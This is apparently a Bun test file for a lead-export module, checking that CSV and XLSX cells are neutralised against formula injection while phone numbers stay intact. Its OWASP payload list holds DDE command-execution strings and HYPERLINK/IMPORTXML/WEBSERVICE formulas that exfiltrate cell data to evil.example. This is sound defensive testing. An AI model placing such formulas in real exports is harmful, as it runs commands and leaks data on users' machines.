import { describe, expect, test } from "bun:test";
import * as ExcelJS from "exceljs";
import { csvField, leadsCsvChunks } from "../src/export/csv";
import { isInternationalPhone, neutralizeCell } from "../src/export/neutralize";
import { leadsXlsxStream } from "../src/export/xlsx";
import { leadRow } from "./helpers/lead-row";

// OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection) and the
// variants its cheat sheet warns about: DDE, HYPERLINK, IMPORTXML/WEBSERVICE exfiltration,
// leading tab/CR, and formulas after a field separator.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=1+1",
  "+1+1",
  "-1+1",
  "@A1",
  "\t=1+1",
  "\r=1+1",
  "=2+5+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "a;=cmd|' /C calc'!A0",
  'Acme;=HYPERLINK("http://evil.example")',
  "name,=1+1",
  "ok\t=1+1",
  "line\n@SUM(A1)",
  "ok; +cmd|' /C calc'!A0",
];

describe("OWASP formula injection payloads", () => {
  test.each(OWASP_PAYLOADS)("%p is neutralized with a leading apostrophe", (payload) => {
    expect(neutralizeCell(payload)).toBe(`'${payload}`);
  });

  test("a ;-separated formula stays one quoted CSV field", () => {
    expect(csvField(neutralizeCell("a;=cmd"))).toBe(`"'a;=cmd"`);
  });
});

describe("international phone numbers stay as they are", () => {
  test.each([
    "+4989123456",
    "+49 89 1234567",
    "+1 (415) 555-0100",
    "+44 20 7946 0958",
    "+81-3-1234-5678",
    "+33.1.23.45.67.89",
  ])("%p is unchanged", (phone) => {
    expect(isInternationalPhone(phone)).toBe(true);
    expect(neutralizeCell(phone)).toBe(phone);
  });

  test.each([
    "+0891234567", // no country code starts with 0
    "+4989", // too short
    "+1234567890123456", // over 15 digits
    "+49 89 1234567;=cmd",
    "+49891234567+cmd|' /C calc'!A0",
    "+1+1",
  ])("%p is not a phone and is neutralized", (value) => {
    expect(isInternationalPhone(value)).toBe(false);
    expect(neutralizeCell(value)).toBe(`'${value}`);
  });
});

const row = leadRow;

describe("the files", () => {
  const rows = [
    row({
      companyName: "a;=cmd|' /C calc'!A0",
      contactPhone: "+4989123456",
      companyPhone: "+4989123456",
    }),
  ];

  test("xlsx: a phone is a text cell (never a number or formula); a payload is text", async () => {
    const stream = leadsXlsxStream(rows, { projectName: "P" });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await new Response(stream).arrayBuffer()) as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error("no sheet");
    const values = sheet.getRow(2).values as unknown[];
    const texts = values.map((v) =>
      v && typeof v === "object" && "text" in v ? (v as { text: unknown }).text : v,
    );
    expect(texts).toContain("'a;=cmd|' /C calc'!A0");
    expect(texts.filter((t) => t === "+4989123456")).toHaveLength(2);
    sheet.getRow(2).eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.type).not.toBe(ExcelJS.ValueType.Number);
    });
  });

  test("csv: the phone is written as is, the payload quoted and prefixed", async () => {
    let text = "";
    for await (const chunk of leadsCsvChunks(rows)) text += chunk;
    expect(text).toContain(`"'a;=cmd|' /C calc'!A0"`);
    expect(text).toContain(",+4989123456,");
    expect(text).not.toContain("'+4989123456");
  });
});
